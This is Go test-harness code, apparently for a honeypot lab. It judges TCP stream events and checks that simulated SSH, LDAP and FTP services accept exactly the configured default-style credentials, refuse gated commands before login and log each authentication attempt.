			default: // FIN
				if !s.synAcked {
					break
				}
				s.finSent = true
				want := c.ISN + 1 + uint32(s.sent) + 1
				for _, d := range mine {
					if d.Flags&fr.ACK != 0 && d.Ack == want {
						s.finAnswered = true
					}
				}
			}
			s.next++
		}
		// a FIN may also be answered by a frame drained later (handler goroutine): accept the final drain
		for ci := range sc.Conns {
			c := sc.Conns[ci]
			s := &sh[ci]
			if s.finSent && !s.finAnswered {
				want := c.ISN + 1 + uint32(s.sent) + 1
				for _, f := range ob.Frames {
					raw, _ := hex.DecodeString(f.Hex)
					d := fr.DecodeTCPFrame(raw)
					if belongs(d) == ci && d.Flags&fr.ACK != 0 && d.Ack == want {
						s.finAnswered = true
					}
				}
				if !s.finAnswered {
					fail("fin-not-answered|"+interClass(sc), fmt.Sprintf("connection %d: FIN (seq %d) was not acknowledged with ack %d", ci, want-1, want))
				}
			}
		}
		// events
		claimed := map[int]bool{}
		for ci, c := range sc.Conns {
			s := &sh[ci]
			if !s.synAcked || len(ob.Skipped) > 0 {
				continue
			}
			if c.Psh < 0 && !c.Fin {
				continue
			}
			total := 0
			for _, l := range c.Segs {
				total += l
			}
			pl := payloadOf(c, ci)
			firstPush := 0
			if c.Psh >= 0 {
				for j := 0; j <= c.Psh; j++ {
					firstPush += c.Segs[j]
				}
			} else {
				firstPush = total
			}
			// connections on the same address/port tuple (a reconnect) each own one of the tuple's events. Their
			// handlers run on goroutines of their own, so the order of the events says nothing: an event belongs to
			// the connection whose bytes it carries (the payloads differ per connection); only events without such
			// evidence are handed out in order
			var ev *evObs
			for pass := 0; pass < 2 && ev == nil; pass++ {
				for i := range ob.Events {
					e := &ob.Events[i]
					if claimed[i] || e.SrcIP != sc.peer(c.Peer).String() || e.SrcPort != c.Sport || e.DstPort != c.Dport {
						continue
					}
					if pass == 0 && !(e.HasPl && len(e.Payload) > 0 && bytes.HasPrefix(pl, []byte(e.Payload))) {
						continue
					}
					if pass == 1 && e.HasPl && len(e.Payload) > 0 {
						other := false
						for cj, o := range sc.Conns {
							if cj != ci && o.Peer == c.Peer && o.Sport == c.Sport && o.Dport == c.Dport && bytes.HasPrefix(payloadOf(o, cj), []byte(e.Payload)) {
								other = true
							}
						}
						if other {
							continue
						}
					}
					ev = e
					claimed[i] = true
					break
				}
			}
			if ev == nil {
				cls := interClass(sc)
				if c.HTTP && !bytes.HasSuffix(pl, []byte("\r\n\r\n")) {
					cls = "payload-is-not-a-complete-http-request"
				} else if c.HTTP && (total > 2048 || firstPush < total || (c.Psh != 0 && len(c.Segs) > 1)) {
					// the request is complete, but longer than the handler's one read of 2048 bytes, or pushed before
					// its end, or spread over unpushed segments: the handler may have read a part of it only (as in
					// the two payload findings), and the HTTP decoders say nothing about what they cannot parse
					cls = "complete-http-request-read-in-part"
				}
				fail("no-event|"+portClass(c)+"|"+cls, fmt.Sprintf("connection %s:%d -> :%d (%d bytes, push after %d) was not reported in any event (events: %d)", sc.peer(c.Peer), c.Sport, c.Dport, total, firstPush, len(ob.Events)))
				continue
			}
			if ev.DstIP != "127.0.0.1" {
				fail("event-address", fmt.Sprintf("event reports destination %s", ev.DstIP))
			}
			if ev.HasPl {
				got := []byte(ev.Payload)
				if !bytes.HasPrefix(pl, got) {
					fail("event-payload-not-prefix|"+interClass(sc), fmt.Sprintf("connection %d: event payload (%d bytes) is not a prefix of the %d bytes the client sent", ci, len(got), total))
				} else if len(got) < firstPush {
					cls := "first-push-beyond-2048"
					if firstPush <= 2048 {
						cls = "other"
						if c.Psh != 0 && len(c.Segs) > 1 {
							cls = "unpushed-segments-before-the-push"
						}
					}
					if sc.Park {
						cls = "parked-handler"
					}
					if len(got) == 0 {
						cls += "+empty"
					}
					fail("event-payload-shorter-than-first-push|"+cls, fmt.Sprintf("connection %d: event payload has %d bytes, the first pushed segment ends at byte %d (waited %d ms)", ci, len(got), firstPush, ob.WaitMs))
				}
			}
		}
		answered := false
		for i := range sh {
			if sh[i].synAcked {
				answered = true
			}
		}
		if answered {
			jb, _ := json.Marshal(sc)
			res.Key = string(jb)
			c0 := sc.Conns[0]
			res.Sample = map[string]interface{}{"kind": sc.Kind, "connections": len(sc.Conns), "first_connection": c0, "order": sc.Order, "frames_emitted": len(ob.Frames), "events": len(ob.Events), "handler_parked_at_yield_point": ob.Parked, "waited_ms": ob.WaitMs}
		}
		if len(ob.Skipped) > 0 && res.Verdict == core.Held {
			res.Verdict = core.Inconclusive
			res.What = "scenario could not be driven: " + ob.Skipped[0]
		}
		if sc.Park && ob.Parked == 0 && res.Verdict == core.Held {
			res.Verdict = core.Inconclusive
			res.What = "yield point canary.socket.prewait was never reached"
		}
		out = append(out, res)
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s) - crash classes belong to C02", e.Class, e.Frame)})
		}
	}
	return out
}

func problemClass(p string) string {
	switch {
	case strings.Contains(p, "TCP checksum"):
		return "tcp-checksum"
	case strings.Contains(p, "IPv4 header checksum"):
		return "ip-checksum"
	case strings.Contains(p, "total length"):
		return "ip-total-length"
	}
	return "other"
}

func isnClass(isn uint32) string {
	switch {
	case isn >= 1<<32-4000:
		return "isn-near-wrap"
	case isn == 0 || isn == 1:
		return "isn-low"
	case isn == 1<<31-1 || isn == 1<<31:
		return "isn-sign-boundary"
	}
	return "isn-other"
}

func portClass(c conn) string {
	switch c.Dport {
	case 23, 80, 443, 445, 1433, 6379, 9200:
		return fmt.Sprintf("decoded-port-%d", c.Dport)
	}
	return "undecoded-port"
}

func interClass(sc scenario) string {
	if len(sc.Conns) == 1 {
		return "single-connection"
	}
	return sc.Kind
}

func clip(s string, n int) string {
	if len(s) > n {
		return s[:n]
	}
	return s
}

func mini(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func (prop) Parallelism() int { return 24 } // parked-handler children mostly sleep
