// Package c12: logins succeed exactly for configured credentials; gated
// commands stay gated. Protocol replies and authentication events are compared
// with a reference credential model over generated credential sets and
// attempt sequences.
package c12

import (
	"bufio"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C12" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one service (ssh-simulator, ldap, ftp), one credential set (users {root,admin,guest,''} x passwords {root,admin,123456,''}, size 0..3, plus the wildcard and an entry without ':'; ftp has its fixed set) and one attempt sequence of length <=4 with gated-operation probes before and after each attempt (exhaustive for sets of size <=1 x sequences <=2 in thorough, seeded otherwise), through the real dispatcher with the real protocol clients. Oracle: outcome per attempt == (user:password in set, or wildcard where the service defines one); one authentication event per attempt carrying the presented password and the evaluated user; gated operations refused before any successful login. Non-trivial = >=1 attempt got a protocol answer; distinct by (service, set, sequence). Bystander scenarios (ldap, ftp): a second connection logs in with a configured credential while the judged connection is open (opened before or after it); the judged connection's expectations are unchanged. ssh-simulator sequences of 5-12 wrong passwords for the configured user followed by the configured pair on one connection. LDAP binds alternate between the advertised protocol versions 2 and 3. The wildcard or an entry without ':' sits at a random position of the credential list."
}
func (prop) Assumptions() []string {
	return []string{"LDAP: the empty/empty bind is the protocol's anonymous bind (success without login); names are presented bare or as cn=<name>,dc=example,dc=com and the service evaluates the RDN value", "the wildcard entry is honoured only by ssh-simulator; for LDAP an entry without ':' matches nothing", "the statement demands refusal before a login has succeeded; what happens to gated operations after a successful login is not judged (and later failed attempts are not required to log the user out)"}
}

var users = []string{"root", "admin", "guest", ""}
var passwords = []string{"root", "admin", "123456", ""}

type attempt struct {
	User string `json:"user"`
	Pass string `json:"pass"`
	DN   bool   `json:"dn,omitempty"` // ldap: present as cn=<user>,dc=example,dc=com
}

type scenario struct {
	Svc      string    `json:"svc"`
	Creds    []string  `json:"creds"`
	Attempts []attempt `json:"attempts"`
	// By > 0: a second connection (the bystander) logs in with a configured credential while the judged
	// connection is open. 1, 2 = bystander opened before the judged connection, 3 = after it; the login
	// always happens once both are open. The judged connection's expectations do not change: a login counts
	// "on the same connection" only.
	// TLS: the ftp control connection is upgraded with AUTH TLS (a real handshake) before anything else is sent
	TLS    bool    `json:"tls,omitempty"`
	By     int     `json:"bystander,omitempty"`
	ByCred attempt `json:"bystander_credential,omitempty"`
}

func allPairs() []attempt {
	var o []attempt
	for _, u := range users {
		for _, p := range passwords {
			o = append(o, attempt{User: u, Pass: p})
		}
	}
	return o
}

// scenarios enumerates the scenario list of a tier.
func scenarios(tier string, seed int64) []scenario {
	var out []scenario
	pairs := allPairs()
	credOf := func(a attempt) string { return a.User + ":" + a.Pass }
	var small [][]string // sets of size <= 1 plus the specials
	small = append(small, []string{})
	for _, p := range pairs {
		small = append(small, []string{credOf(p)})
	}
	small = append(small, []string{"*"}, []string{"nocolon"}, []string{"root:root", "*"})
	r := core.NewRng(seed, "C12", 0)
	for _, svc := range []string{"ssh-simulator", "ldap"} {
		if tier == "thorough" {
			for _, cs := range small {
				for _, a := range pairs {
					out = append(out, scenario{Svc: svc, Creds: cs, Attempts: []attempt{a}})
					for _, b := range pairs {
						out = append(out, scenario{Svc: svc, Creds: cs, Attempts: []attempt{a, b}})
					}
				}
			}
		} else {
			for _, cs := range small {
				for i := 0; i < 6; i++ {
					var as []attempt
					for j := r.Range(1, 2); j > 0; j-- {
						as = append(as, pairs[r.Intn(len(pairs))])
					}
					if len(cs) == 1 && strings.Contains(cs[0], ":") && i < 2 { // make sure the matching pair is tried
						u, p, _ := strings.Cut(cs[0], ":")
						as = append(as, attempt{User: u, Pass: p})
					}
					out = append(out, scenario{Svc: svc, Creds: cs, Attempts: as})
				}
			}
		}
		n := 150
		if tier == "thorough" {
			n = 3000
		}
		for i := 0; i < n; i++ { // larger sets, longer sequences
			var cs []string
			for j := r.Range(2, 3); j > 0; j-- {
				cs = append(cs, credOf(pairs[r.Intn(len(pairs))]))
			}
			if r.Chance(1, 6) {
				// the wildcard, or an entry without ':' (which matches nothing), anywhere in the list: the entries
				// after it count as much as those before it
				at := r.Intn(len(cs) + 1)
				cs = append(cs[:at:at], append([]string{r.PickS([]string{"*", "nocolon", "nocolon"})}, cs[at:]...)...)
			}
			var as []attempt
			for j := r.Range(1, 4); j > 0; j-- {
				a := pairs[r.Intn(len(pairs))]
				if r.Chance(1, 3) {
					u, p, _ := strings.Cut(cs[r.Intn(len(cs))], ":")
					a = attempt{User: u, Pass: p}
				}
				a.DN = r.Bool()
				as = append(as, a)
			}
			out = append(out, scenario{Svc: svc, Creds: cs, Attempts: as})
		}
	}
	// FTP cannot present an empty user or password (USER/PASS without parameter are syntax errors, not attempts)
	ftpUsers := []string{"anonymous", "root", "admin", "ftp"}
	ftpPw := []string{"anonymous", "root", "x@y.z", "guest"}
	n := 120
	if tier == "thorough" {
		n = 2000
	}
	for _, u := range ftpUsers {
		for _, p := range ftpPw {
			out = append(out, scenario{Svc: "ftp", Attempts: []attempt{{User: u, Pass: p}}})
		}
	}
	for i := 0; i < n; i++ {
		var as []attempt
		for j := r.Range(1, 4); j > 0; j-- {
			as = append(as, attempt{User: r.PickS(ftpUsers), Pass: r.PickS(ftpPw)})
		}
		out = append(out, scenario{Svc: "ftp", Attempts: as})
	}
	rl0 := core.NewRng(seed, "C12/ftptls", 0)
	// ftp sessions on a protected control connection (AUTH TLS first): the gate and the login rule are the same
	for i := 0; i < 16; i++ {
		var as []attempt
		for j := rl0.Range(1, 3); j > 0; j-- {
			as = append(as, attempt{User: rl0.PickS(ftpUsers), Pass: rl0.PickS(ftpPw)})
		}
		out = append(out, scenario{Svc: "ftp", Attempts: as, TLS: true})
	}
	// many failed attempts on one ssh connection before the configured pair: an attempt's outcome does not
	// depend on how many failed before it
	nl := 12
	if tier == "thorough" {
		nl = 120
	}
	rl := core.NewRng(seed, "C12/long", 0)
	for i := 0; i < nl; i++ {
		good := pairs[rl.Intn(3*4)]
		var as []attempt
		for j := rl.Range(5, 12); j > 0; j-- {
			w := attempt{User: good.User, Pass: passwords[rl.Intn(len(passwords))]}
			if w.Pass == good.Pass {
				w.Pass = "wrong-" + w.Pass
			}
			as = append(as, w)
		}
		as = append(as, good)
		out = append(out, scenario{Svc: "ssh-simulator", Creds: []string{credOf(good)}, Attempts: as})
	}
	// bystander scenarios (appended last so that the indexes of the others do not move)
	nb := 60
	if tier == "thorough" {
		nb = 800
	}
	rb := core.NewRng(seed, "C12/bystander", 0)
	for i := 0; i < nb; i++ {
		by := pairs[rb.Intn(3*4)] // a non-empty user
		cs := []string{credOf(by)}
		if rb.Chance(1, 2) {
			cs = append(cs, credOf(pairs[rb.Intn(len(pairs))]))
		}
		var as []attempt
		for j := rb.Range(0, 2); j > 0; j-- {
			a := pairs[rb.Intn(len(pairs))]
			if refSuccess("ldap", cs, a.User, a.Pass) { // the judged connection never logs in itself
				continue
			}
			as = append(as, a)
		}
		as = append(as, attempt{User: "guest", Pass: "wrong"})
		out = append(out, scenario{Svc: "ldap", Creds: cs, Attempts: as, By: 1 + i%3, ByCred: by})
	}
	for i := 0; i < nb; i++ {
		var as []attempt
		for j := rb.Range(1, 3); j > 0; j-- {
			as = append(as, attempt{User: rb.PickS(ftpUsers[1:]), Pass: rb.PickS(ftpPw)})
		}
		out = append(out, scenario{Svc: "ftp", Attempts: as, By: 1 + i%3, ByCred: attempt{User: "anonymous", Pass: "anonymous"}})
	}
	return out
}

// ---- reference credential model -------------------------------------------------

func refSuccess(svc string, creds []string, user, pass string) bool {
	if svc == "ftp" {
		return user == "anonymous" && pass == "anonymous"
	}
	for _, c := range creds {
		if c == user+":"+pass && strings.Contains(c, ":") {
			return true
		}
		if c == "*" && svc == "ssh-simulator" {
			return true
		}
	}
	return false
}

// ---- child ---------------------------------------------------------------------------

type attemptObs struct {
	Made       bool   `json:"made"`
	Success    bool   `json:"success"`
	Reply      string `json:"reply,omitempty"`
	GateBefore string `json:"gate_before,omitempty"` // "refused" | "accepted" | ""
	GateAfter  string `json:"gate_after,omitempty"`
}

type scnObs struct {
	Attempts []attemptObs `json:"attempts"`
	AuthEvs  [][2]string  `json:"auth_events"` // (user, password) in order
	Err      string       `json:"err,omitempty"`
	ByReply  string       `json:"bystander_reply,omitempty"`
	ByOK     bool         `json:"bystander_logged_in,omitempty"`
}

type params struct {
	Off int `json:"off"`
	N   int `json:"n"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	all := scenarios(tier, seed)
	chunks := 8
	if tier == "thorough" {
		chunks = 16
	}
	per := (len(all) + chunks - 1) / chunks
	var plan []core.Batch
	for c := 0; c < chunks; c++ {
		n := per
		if c*per+n > len(all) {
			n = len(all) - c*per
		}
		if n <= 0 {
			break
		}
		p, _ := json.Marshal(params{Off: c * per, N: n})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("part/%d", c), N: n, Params: p, Timeout: 1200})
	}
	return plan
}

func config(sc scenario, work string) string {
	var q []string
	for _, c := range sc.Creds {
		q = append(q, fmt.Sprintf("%q", c))
	}
	extra := ""
	port := 22
	switch sc.Svc {
	case "ssh-simulator":
		extra = "credentials=[" + strings.Join(q, ",") + "]\n"
	case "ldap":
		extra = "credentials=[" + strings.Join(q, ",") + "]\n"
		port = 389
	case "ftp":
		extra = fmt.Sprintf("fs_base=%q\n", work+"/ftproot")
		port = 21
	}
	return fmt.Sprintf("[listener]\ntype=\"lab\"\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n[[filter]]\nchannel=[\"cap0\"]\n[service.sut]\ntype=%q\n%s[[port]]\nport=\"tcp/%d\"\nservices=[\"sut\"]\n", sc.Svc, extra, port)
}

var connSeq int

func runSSH(srv *lab.Server, sc scenario) scnObs {
	var ob scnObs
	// one connection per maximal run of attempts with the same user (the user is fixed per SSH connection)
	i := 0
	for i < len(sc.Attempts) {
		j := i
		for j < len(sc.Attempts) && sc.Attempts[j].User == sc.Attempts[i].User {
			j++
		}
		group := sc.Attempts[i:j]
		connSeq++
		port := 20000 + connSeq%40000
		ev0 := lab.Events.Len()
		cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 22), lab.TCPAddr("203.0.113.12", port))
		used := 0
		cfg := &ssh.ClientConfig{User: group[0].User, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 5 * time.Second,
			Auth: []ssh.AuthMethod{ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
				if used >= len(group) {
					return "", errors.New("no more attempts")
				}
				p := group[used].Pass
				used++
				return p, nil
			}), len(group))}}
		cc.SetDeadline(time.Now().Add(10 * time.Second))
		conn, _, _, err := ssh.NewClientConn(cc, "lab", cfg)
		for k := range group {
			a := attemptObs{Made: k < used}
			if k == used-1 && err == nil {
				a.Success = true
			}
			ob.Attempts = append(ob.Attempts, a)
		}
		if err == nil {
			conn.Close()
		} else if used == 0 {
			ob.Err = err.Error()
		}
		cc.Close()
		lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return len(sshAuth(evs, port)) >= used }, 2*time.Second)
		lab.Events.Settle(2*time.Millisecond, 10*time.Millisecond)
		ob.AuthEvs = append(ob.AuthEvs, sshAuth(lab.Events.Since(ev0), port)...)
		i = j
	}
	return ob
}

func sshAuth(evs []lab.Captured, port int) [][2]string {
	var o [][2]string
	for _, c := range evs {
		sp, _ := lab.Int(c.Rec, "source-port")
		if int(sp) == port && lab.Str(c.Rec, "type") == "password-authentication" {
			o = append(o, [2]string{lab.Str(c.Rec, "ssh.username"), lab.Str(c.Rec, "ssh.password")})
		}
	}
	return o
}

// ldapResult extracts the result code of the first response message in b (-1 if none).
func ldapResult(b []byte) int {
	// LDAPMessage: 30 L 02 idlen id.. <op tag> L 0a 01 code ...
	if len(b) < 8 || b[0] != 0x30 {
		return -1
	}
	i := 2
	if b[1]&0x80 != 0 {
		i = 2 + int(b[1]&0x7f)
	}
	if i+2 > len(b) || b[i] != 0x02 {
		return -1
	}
	i += 2 + int(b[i+1])
	if i+2 > len(b) {
		return -1
	}
	i += 2
	if b[i-1]&0x80 != 0 {
		i += int(b[i-1] & 0x7f)
	}
	if i+3 > len(b) || b[i] != 0x0a {
		return -1
	}
	return int(b[i+2])
}

func runLDAP(srv *lab.Server, sc scenario) scnObs {
	var ob scnObs
	connSeq++
	port := 20000 + connSeq%40000
	ev0 := lab.Events.Len()
	var by *lab.Client
	byOpen := func() {
		by = lab.NewClient(srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 389), lab.TCPAddr("203.0.113.77", 10000+connSeq%40000)))
		by.WaitIdle(300 * time.Millisecond)
	}
	if sc.By == 1 || sc.By == 2 {
		byOpen()
	}
	cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 389), lab.TCPAddr("203.0.113.12", port))
	cl := lab.NewClient(cc)
	if sc.By > 0 {
		cl.WaitIdle(300 * time.Millisecond)
	}
	if sc.By == 3 {
		byOpen()
	}
	id := 1
	rtOn := func(cl *lab.Client, msg []byte) []byte {
		before := len(cl.Received())
		if cl.Send(msg, 2*time.Second) != nil {
			return nil
		}
		cl.WaitIdle(500 * time.Millisecond)
		got := cl.Received()
		if before > len(got) {
			return nil
		}
		return got[before:]
	}
	rt := func(msg []byte) []byte { return rtOn(cl, msg) }
	if sc.By > 0 {
		rc := ldapResult(rtOn(by, gen.LDAPBind(9000, sc.ByCred.User, sc.ByCred.Pass)))
		ob.ByReply = fmt.Sprintf("resultCode=%d", rc)
		ob.ByOK = rc == 0
		defer by.Close()
	}
	gate := func() string {
		id++
		ops := [][]byte{
			gen.LDAPMsg(id, gen.BER(0x68, gen.BERStr("cn=x,dc=y"), gen.BER(0x30, gen.BER(0x30, gen.BERStr("cn"), gen.BER(0x31, gen.BERStr("x")))))),
			gen.LDAPMsg(id, gen.BER(0x4a, []byte("cn=x,dc=y"))),
			gen.LDAPMsg(id, gen.BER(0x66, gen.BERStr("cn=x"), gen.BER(0x30, gen.BER(0x30, gen.BEREnum(2), gen.BER(0x30, gen.BERStr("sn"), gen.BER(0x31, gen.BERStr("v"))))))),
			gen.LDAPMsg(id, gen.BER(0x6c, gen.BERStr("cn=x"), gen.BERStr("cn=y"), gen.BERBool(true))),
			gen.LDAPMsg(id, gen.BER(0x6e, gen.BERStr("cn=x"), gen.BER(0x30, gen.BERStr("cn"), gen.BERStr("x")))),
		}
		rc := ldapResult(rt(ops[id%len(ops)]))
		switch rc {
		case 0:
			return "accepted"
		case -1:
			return "noreply"
		default:
			return fmt.Sprintf("refused(%d)", rc)
		}
	}
	for _, a := range sc.Attempts {
		var ao attemptObs
		ao.GateBefore = gate()
		id++
		dn := a.User
		if a.DN && a.User != "" {
			dn = "cn=" + a.User + ",dc=example,dc=com"
		}
		// both protocol versions the service advertises (supportedLDAPVersion 2 and 3), alternating per bind
		rep := rt(gen.LDAPBindV(id, 2+id%2, dn, a.Pass))
		ao.Made = true
		rc := ldapResult(rep)
		ao.Reply = fmt.Sprintf("resultCode=%d", rc)
		ao.Success = rc == 0
		ao.GateAfter = gate()
		ob.Attempts = append(ob.Attempts, ao)
	}
	cl.Close()
	lab.Events.Settle(2*time.Millisecond, 10*time.Millisecond)
	for _, c := range lab.Events.Since(ev0) {
		sp, _ := lab.Int(c.Rec, "source-port")
		if int(sp) == port && lab.Str(c.Rec, "ldap.request-type") == "bind" {
			ob.AuthEvs = append(ob.AuthEvs, [2]string{lab.Str(c.Rec, "ldap.username"), lab.Str(c.Rec, "ldap.password")})
		}
	}
	return ob
}

var ftpGated = []string{"CWD /", "CDUP", "MKD x", "RMD x", "DELE x", "RNFR x", "STOR x", "APPE x", "RETR x", "LIST", "NLST", "MDTM x", "SIZE x"}

// once logged in, transfer commands would wait for a data connection: probe with the others
var ftpGatedNoData = []string{"CWD /", "CDUP", "RMD nonexistent", "DELE nonexistent", "RNFR nonexistent", "MDTM x", "SIZE x"}

// runFTPTLS is runFTP over a control connection that was upgraded with AUTH TLS first.
func runFTPTLS(srv *lab.Server, sc scenario) scnObs {
	var ob scnObs
	connSeq++
	port := 20000 + connSeq%40000
	ev0 := lab.Events.Len()
	cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 21), lab.TCPAddr("203.0.113.12", port))
	defer cc.Close()
	cc.SetDeadline(time.Now().Add(20 * time.Second))
	br := bufio.NewReader(cc)
	br.ReadString('\n') // banner
	fmt.Fprintf(cc, "AUTH TLS\r\n")
	if l, _ := br.ReadString('\n'); !strings.HasPrefix(l, "234") {
		ob.Err = "AUTH TLS answered " + strings.TrimSpace(l)
		return ob
	}
	tc := tls.Client(cc, &tls.Config{InsecureSkipVerify: true})
	if err := tc.Handshake(); err != nil {
		ob.Err = "tls handshake: " + err.Error()
		return ob
	}
	tr := bufio.NewReader(tc)
	rt := func(line string) string {
		fmt.Fprintf(tc, "%s\r\n", line)
		tc.SetReadDeadline(time.Now().Add(2 * time.Second))
		for {
			l, err := tr.ReadString('\n')
			if err != nil {
				return ""
			}
			if len(l) >= 4 && l[3] == ' ' {
				return l
			}
			if strings.TrimSpace(l) == "" {
				continue
			}
		}
	}
	gi := 0
	in := false
	gate := func() string {
		gi++
		probe := ftpGatedNoData[(gi+connSeq)%len(ftpGatedNoData)]
		rep := rt(probe)
		if strings.HasPrefix(rep, "530") {
			return "refused"
		}
		if rep == "" {
			return "noreply"
		}
		return "accepted:" + strings.TrimSpace(rep)[:3]
	}
	_ = in
	for _, a := range sc.Attempts {
		var ao attemptObs
		ao.GateBefore = gate()
		rt("USER " + a.User)
		rep := rt("PASS " + a.Pass)
		ao.Made = true
		ao.Reply = strings.TrimSpace(rep)
		ao.Success = strings.HasPrefix(rep, "230")
		ao.GateAfter = gate()
		ob.Attempts = append(ob.Attempts, ao)
	}
	tc.Close()
	lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return len(ftpAuth(evs, port)) >= len(sc.Attempts) }, 2*time.Second)
	ob.AuthEvs = ftpAuth(lab.Events.Since(ev0), port)
	return ob
}

func runFTP(srv *lab.Server, sc scenario) scnObs {
	if sc.TLS {
		return runFTPTLS(srv, sc)
	}
	var ob scnObs
	connSeq++
	port := 20000 + connSeq%40000
	ev0 := lab.Events.Len()
	rtOn := func(cl *lab.Client, line string) string {
		before := len(cl.Received())
		if cl.Send([]byte(line+"\r\n"), 2*time.Second) != nil {
			return ""
		}
		cl.WaitIdle(500 * time.Millisecond)
		got := cl.Received()
		if before > len(got) {
			return ""
		}
		return string(got[before:])
	}
	var by *lab.Client
	byOpen := func() {
		by = lab.NewClient(srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 21), lab.TCPAddr("203.0.113.77", 10000+connSeq%40000)))
		by.WaitIdle(300 * time.Millisecond)
	}
	if sc.By == 1 || sc.By == 2 {
		byOpen()
	}
	cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", 21), lab.TCPAddr("203.0.113.12", port))
	cl := lab.NewClient(cc)
	cl.WaitIdle(300 * time.Millisecond)
	if sc.By == 3 {
		byOpen()
	}
	if sc.By > 0 {
		rtOn(by, "USER "+sc.ByCred.User)
		rep := rtOn(by, "PASS "+sc.ByCred.Pass)
		ob.ByReply = strings.TrimSpace(rep)
		ob.ByOK = strings.HasPrefix(rep, "230")
		rtOn(by, "CWD /")
		defer by.Close()
	}
	rt := func(line string) string { return rtOn(cl, line) }
	gi := 0
	in := false
	gate := func() string {
		gi++
		probe := ftpGated[(gi+connSeq)%len(ftpGated)]
		if in {
			probe = ftpGatedNoData[(gi+connSeq)%len(ftpGatedNoData)]
		}
		rep := rt(probe)
		if strings.HasPrefix(rep, "530") {
			return "refused"
		}
		if rep == "" {
			return "noreply"
		}
		return "accepted:" + strings.TrimSpace(rep)[:3]
	}
	var sent []string
	for _, a := range sc.Attempts {
		var ao attemptObs
		ao.GateBefore = gate()
		rt("USER " + a.User)
		rep := rt("PASS " + a.Pass)
		sent = append(sent, "USER "+a.User, "PASS "+a.Pass)
		ao.Made = true
		ao.Reply = strings.TrimSpace(rep)
		ao.Success = strings.HasPrefix(rep, "230")
		if ao.Success {
			in = true
		}
		ao.GateAfter = gate()
		ob.Attempts = append(ob.Attempts, ao)
	}
	cl.Close()
	lab.Events.WaitFor(ev0, func(evs []lab.Captured) bool { return len(ftpAuth(evs, port)) >= len(sc.Attempts) }, 2*time.Second)
	ob.AuthEvs = ftpAuth(lab.Events.Since(ev0), port)
	return ob
}

// ftpAuth pairs the USER/PASS command events of a connection.
func ftpAuth(evs []lab.Captured, port int) [][2]string {
	var o [][2]string
	user := ""
	have := false
	for _, c := range evs {
		sp, _ := lab.Int(c.Rec, "source-port")
		if int(sp) != port {
			continue
		}
		cmd := lab.Str(c.Rec, "ftp.command")
		switch {
		case strings.HasPrefix(cmd, "USER"):
			user, have = strings.TrimPrefix(strings.TrimPrefix(cmd, "USER"), " "), true
		case strings.HasPrefix(cmd, "PASS") && have:
			o = append(o, [2]string{user, strings.TrimPrefix(strings.TrimPrefix(cmd, "PASS"), " ")})
			have = false
		}
	}
	return o
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	all := scenarios(b.Tier, b.Seed)
	work := lab.WorkDir()
	os.MkdirAll(work+"/ftproot", 0755)
	to := b.To
	if to == 0 {
		to = b.N
	}
	var srv *lab.Server
	lastCfg := ""
	for k := b.From; k < to; k++ {
		sc := all[p.Off+k]
		o.Begin(k)
		if cfg := config(sc, work); cfg != lastCfg {
			if srv != nil {
				srv.Stop()
			}
			var err error
			srv, err = lab.Start(cfg)
			if err != nil {
				o.Emit(core.Rec{T: "starterr", S: err.Error()})
				o.End(k)
				lastCfg = ""
				continue
			}
			lastCfg = cfg
		}
		var ob scnObs
		switch sc.Svc {
		case "ssh-simulator":
			ob = runSSH(srv, sc)
		case "ldap":
			ob = runLDAP(srv, sc)
		case "ftp":
			ob = runFTP(srv, sc)
		}
		o.EmitX("scn", ob)
		o.End(k)
	}
}

// ---- judge -----------------------------------------------------------------------------

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	all := scenarios(b.Tier, b.Seed)
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "scn":
			var ob scnObs
			if r.XInto(&ob) != nil {
				continue
			}
			sc := all[p.Off+r.K]
			res := core.Result{K: r.K, Verdict: core.Held}
			made := 0
			for _, a := range ob.Attempts {
				if a.Made {
					made++
				}
			}
			if made > 0 {
				jb, _ := json.Marshal(sc)
				res.Key = string(jb)
				res.Sample = map[string]interface{}{"service": sc.Svc, "credentials": sc.Creds, "attempts": sc.Attempts, "observed": ob.Attempts, "auth_events": ob.AuthEvs}
			}
			fail := func(rule, what string) {
				if res.Verdict != core.Held {
					return
				}
				res.Verdict = core.Violated
				res.Sig = "C12|" + sc.Svc + "|" + rule
				res.What = what
				res.Witness = map[string]interface{}{"scenario": sc, "observed": ob}
			}
			if len(ob.Attempts) != len(sc.Attempts) {
				res.Verdict = core.Inconclusive
				res.What = "attempts not all observed (" + ob.Err + ")"
				out = append(out, res)
				continue
			}
			if sc.By > 0 && !ob.ByOK {
				fail("bystander-login-rejected", fmt.Sprintf("a second connection presenting the configured credential %q/%q was answered %q while another connection was open (mode %d)", sc.ByCred.User, sc.ByCred.Pass, ob.ByReply, sc.By))
			}
			// expected outcomes; for SSH a success ends the connection's attempts
			var wantEvs [][2]string
			loggedIn := false
			stop := false
			prevUser := "\x00"
			for i, a := range sc.Attempts {
				if sc.Svc == "ssh-simulator" && a.User != prevUser {
					stop = false
				}
